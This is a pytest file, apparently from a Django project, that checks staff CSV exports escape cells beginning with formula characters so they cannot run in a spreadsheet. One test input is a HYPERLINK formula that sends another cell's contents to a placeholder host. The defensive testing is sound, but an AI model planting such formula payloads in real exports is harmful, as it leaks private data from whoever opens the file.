"""Staff exports are safe to open in a spreadsheet: a member's text never becomes a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from core.exports import FORMULA_STARTS, csv_text, spreadsheet_safe
from staff.roles import PRIVACY_HANDLER
from tests.staff.downloads import export_form

pytestmark = pytest.mark.policy("9 나")

HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Click")'


def test_the_member_export_neutralises_cells_that_would_be_formulas(client, login_as, make_member):
    member = make_member(username="formula01", company="@SUM(1+1)", project=HYPERLINK)
    other = make_member(username="plain01", company="-2+3 Trading", project="+82 Project")
    login_as(role=PRIVACY_HANDLER)
    response = client.post(reverse("admin:accounts_user_changelist"), export_form([member, other]))
    rows = {row["username"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert rows["formula01"]["project"] == "'" + HYPERLINK
    assert rows["formula01"]["company"] == "'@SUM(1+1)"
    assert rows["plain01"]["company"] == "'-2+3 Trading"
    assert rows["plain01"]["project"] == "'+82 Project"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_prefixed(start):
    assert spreadsheet_safe(f"{start}cmd") == f"'{start}cmd"


def test_ordinary_text_and_other_values_are_left_as_they_are():
    assert spreadsheet_safe("Acme = fine") == "Acme = fine"
    assert spreadsheet_safe(True) is True
    assert csv_text(["a", "b"], [["x", "=1"]]) == "a,b\r\nx,'=1\r\n"
